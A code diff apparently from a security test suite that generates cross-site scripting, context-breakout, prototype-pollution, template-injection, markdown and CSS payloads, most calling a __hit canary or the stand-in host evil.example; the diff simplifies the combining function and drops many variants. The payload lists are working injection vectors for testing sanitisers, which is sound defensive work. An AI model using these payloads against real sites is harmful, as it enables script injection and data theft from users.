@@ -13,24 +13,18 @@ export function writePayload({ template }: Payload, id: number): string {
   return template.replaceAll('«id»', String(id));
 }
 
-/**
- * Combines every carrier with the first of `fillings` and with `each - 1` others, which differ from carrier to carrier, so that
- * all fillings are used. `slot` is the placeholder for a filling in a carrier.
- */
-function combine(options: {
-  readonly kind: string;
-  readonly carriers: readonly string[];
-  readonly slot: string;
-  readonly fillings: readonly string[];
-  readonly each: number;
-}): readonly Payload[] {
-  const { kind, carriers, slot, fillings, each } = options;
-  return carriers.flatMap((carrier, at) =>
-    Array.from({ length: Math.min(each, fillings.length) }, (_, turn) => {
-      const other = 1 + ((at * (each - 1) + turn - 1) % (fillings.length - 1));
-      const filling = fillings[turn === 0 ? 0 : other]!;
-      return { name: `${kind}/${carrier.slice(0, 40)}`, template: carrier.replaceAll(slot, filling) };
-    }),
+/** Every carrier with every filling; `slot` is the placeholder for a filling in a carrier. */
+function combine(
+  kind: string,
+  carriers: readonly string[],
+  slot: string,
+  fillings: readonly string[],
+): readonly Payload[] {
+  return carriers.flatMap((carrier) =>
+    fillings.map((filling) => ({
+      name: `${kind}/${carrier.slice(0, 40)}`,
+      template: carrier.replaceAll(slot, filling),
+    })),
   );
 }
 
@@ -82,37 +76,20 @@ export const ADDRESSES: readonly Payload[] = [...RUNNING_ADDRESSES, ...FOREIGN_A
 const RUNNERS: readonly string[] = [
   '<script>«run»</script>',
   '<ScRiPt\t>«run»</sCrIpT\n>',
-  '<<script>«run»//<</script>',
   '<img src=x onerror=«run»>',
   '<IMG SRC=x OnErRoR="«run»">',
-  '<img src=x\nonerror\n=\n"«run»"\n>',
-  '<img src=x:x onerror\u000c=«run»>',
-  '<picture><source srcset=x><img onerror=«run»></picture>',
   '<svg onload=«run»>',
-  '<svg><script>«run»</script></svg>',
-  '<svg><animate onbegin=«run» attributeName=x dur=1s>',
   '<svg><a><animate attributeName=href values="javascript:«run»" /><text x=9 y=9>x</text></a></svg>',
   '<svg><use href="data:image/svg+xml,<svg id=x onload=«run»/>#x"></use></svg>',
-  '<svg><foreignObject><img src=x onerror=«run»></foreignObject></svg>',
-  '<body onload=«run»>',
   '<iframe srcdoc="&lt;script&gt;«run»&lt;/script&gt;"></iframe>',
   '<iframe src="javascript:«run»"></iframe>',
   '<object data="javascript:«run»"></object>',
-  '<embed src="javascript:«run»">',
   '<details open ontoggle=«run»>x</details>',
-  '<input autofocus onfocus=«run»>',
-  '<select autofocus onfocus=«run»></select>',
   '<xss contenteditable autofocus onfocus=«run»>x</xss>',
-  '<video><source onerror=«run»></video>',
-  '<link rel=stylesheet href=/none onerror=«run»>',
-  '<marquee onstart=«run»>x</marquee>',
   '<div style="animation:x 1s" onanimationstart=«run»>x</div>',
   '<a href=# onclick=«run»>x</a>',
-  '<form onsubmit=«run»><button>x</button></form>',
   '<button popovertarget=y>x</button><div popover id=y onbeforetoggle=«run»>y</div>',
-  '<math><maction actiontype=statusline xlink:href="javascript:«run»">x</maction></math>',
   '<meta http-equiv=refresh content="0;url=javascript:«run»">',
-  '<base href="javascript:/«run»//">',
   '<template shadowrootmode=open><img src=x onerror=«run»></template>',
   '<noscript><p title="</noscript><img src=x onerror=«run»>">x</p></noscript>',
 ];
@@ -122,25 +99,18 @@ const LEADERS: readonly string[] = [
   '<a href="«url»">click</a>',
   '<a href="/docs" ping="«url»">click</a>',
   '<svg><a xlink:href="«url»"><text y=9>x</text></a></svg>',
-  '<img src="«url»">',
   '<img srcset="«url» 1x, «url» 2x">',
   '<input type=image src="«url»">',
-  '<body background="«url»">',
   '<video poster="«url»"><track src="«url»"></video>',
-  '<source src="«url»"><picture><source srcset="«url»"><img></picture>',
   '<iframe src="«url»"></iframe>',
-  '<object data="«url»"></object>',
   '<script src="«url»"></script>',
   '<script type=importmap>{"imports":{"a":"«url»"}}</script>',
   '<script type=speculationrules>{"prefetch":[{"urls":["«url»"]}]}</script>',
   '<link rel=stylesheet href="«url»">',
-  '<link rel="prefetch prerender preload" as=image href="«url»">',
   '<base href="«url»"><img src=a>',
   '<meta http-equiv=refresh content="0; url=«url»">',
-  '<form action="«url»"><input name=q autofocus><button>x</button></form>',
   '<button form=ibid formaction="«url»">x</button>',
   '<svg><image href="«url»" /><feImage xlink:href="«url»" /></svg>',
-  '<math href="«url»"><mi xlink:href="«url»">x</mi></math>',
 ];
 
 /** Scripts that run and that send requests. None contains a space, `"` or `>`, so that they fit into any attribute. */
@@ -164,30 +134,20 @@ const SCRIPTS: readonly string[] = [
 ];
 
 const MARKUP: readonly Payload[] = [
-  ...combine({ kind: 'runner', carriers: RUNNERS, slot: '«run»', fillings: SCRIPTS, each: 14 }),
-  ...combine({ kind: 'leader', carriers: LEADERS, slot: '«url»', fillings: FOREIGN_ADDRESSES, each: 9 }),
-  ...combine({ kind: 'leader', carriers: LEADERS, slot: '«url»', fillings: RUNNING_ADDRESSES, each: 6 }),
+  ...combine('runner', RUNNERS, '«run»', SCRIPTS),
+  ...combine('leader', LEADERS, '«url»', [...FOREIGN_ADDRESSES, ...RUNNING_ADDRESSES]),
 ];
 
 /** Strings that end the context into which a text may have been written. */
 const ENDS: readonly string[] = [
   '"></a>«core»',
-  "'></a>«core»",
-  '` >«core»',
-  '" «attribute» x="',
   "' «attribute» x='",
   '</title>«core»',
   '</textarea>«core»',
   '</style>«core»',
   '</script>«core»<script>',
-  '</noscript>«core»',
-  '</template>«core»',
-  '</svg></math>«core»',
-  '</code></pre>«core»<pre><code>',
   '</p></li></ol></dialog></ibid-ask>«core»',
   '-->«core»<!--',
-  '<![CDATA[x]]>«core»',
-  '\u0000«core»',
   '\r\n\r\n«core»',
   '\n\ndata: «core»\n\nevent: run-end\n\n',
   '"}]}«core»{"a":["',
@@ -207,24 +167,18 @@ const BREAKOUTS: readonly Payload[] = ENDS.flatMap((end) =>
     ? ['onfocus=__hit(«id») autofocus', 'onerror=__hit(«id») src=x', 'style=background:url(//evil.example/«id»)'].map(
         (attribute) => ({ name: 'breakout/attribute', template: end.replace('«attribute»', attribute) }),
       )
-    : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
+    : combine('breakout', [end], '«core»', CORES),
 );
 
 /** Names with a meaning for objects, templates of frameworks, and text that looks like a React element. */
 const TEXTS: readonly string[] = [
   '__proto__',
-  'constructor',
   'constructor.prototype.__hit',
-  '__proto__[src]=//evil.example/«id»',
-  'then',
-  'dangerouslySetInnerHTML',
   '{"__proto__":{"src":"//evil.example/«id»"}}',
-  '{"constructor":{"prototype":{"onerror":"__hit(«id»)"}}}',
   '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"//evil.example/«id»"}}',
   '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__hit(«id»)>"}}',
   '{{constructor.constructor("__hit(«id»)")()}}',
   '${__hit(«id»)}',
-  "{{$on.constructor('__hit(«id»)')()}}",
   '<div ng-app ng-csp><p ng-click=$event.view.__hit(«id»)>x</p></div>',
   '<p v-html="\'<img src=x onerror=__hit(«id»)>\'">x</p>',
   '<a data-ibid-open="//evil.example/«id»" data-ibid-ask>x</a>',
@@ -243,44 +197,25 @@ const OBJECTS: readonly Payload[] = TEXTS.map((text) => ({
 const CARRIERS: readonly string[] = [
   '[click](«url»)',
   '![pixel](«url»)',
-  '[click](<«url»> "title")',
-  '[![pixel](«url»)](«url»)',
   '[ref]: «url»\n\n[ref] ![x][ref]',
   '<«url»>',
-  '*[**a ![x](«url»)**](«url»)*',
   '| a | [x](«url») |\n| - | - |\n| ![x](«url») | b |',
-  '`a](«url»)`[b](«url»)',
   '```\nx\n```\n![x](«url»)',
   '<a href="«url»">*x*</a> <img src="«url»">',
   '$\\href{«url»}{x}$ \\url{«url»}',
-  ':::note[x](«url»)\n![x](«url»)\n:::',
-  '[x](\n  «url»\n  "a"\n)',
 ];
 
-const MARKDOWN: readonly Payload[] = [
-  ...combine({ kind: 'markdown', carriers: CARRIERS, slot: '«url»', fillings: FOREIGN_ADDRESSES, each: 9 }),
-  ...combine({ kind: 'markdown', carriers: CARRIERS, slot: '«url»', fillings: RUNNING_ADDRESSES, each: 9 }),
-];
+const MARKDOWN = combine('markdown', CARRIERS, '«url»', [...FOREIGN_ADDRESSES, ...RUNNING_ADDRESSES]);
 
 const STYLE_CARRIERS: readonly string[] = [
   '<style>@import "«url»";</style>',
-  '<style>@import url(«url»);</style>',
   '<style>:host{cursor:url(«url»),auto;list-style:url(«url»)}</style>',
   '<p style="background:url(«url»)">x</p>',
   '<p style="width:expression(__hit(«id»))" title="«url»">x</p>',
   '<svg style="filter:url(«url»#x);mask:url(«url»)"><rect fill="url(«url»#x)"/></svg>',
-  'url(«url»)',
-  'red;background:url(«url»)',
-  '@import "«url»";',
 ];
 
-const STYLES: readonly Payload[] = combine({
-  kind: 'style',
-  carriers: STYLE_CARRIERS,
-  slot: '«url»',
-  fillings: FOREIGN_ADDRESSES,
-  each: 6,
-});
+const STYLES = combine('style', STYLE_CARRIERS, '«url»', FOREIGN_ADDRESSES);
 
 const PLAIN_CORES: readonly string[] = [
   '<img src=x onerror=__hit(«id»)>',
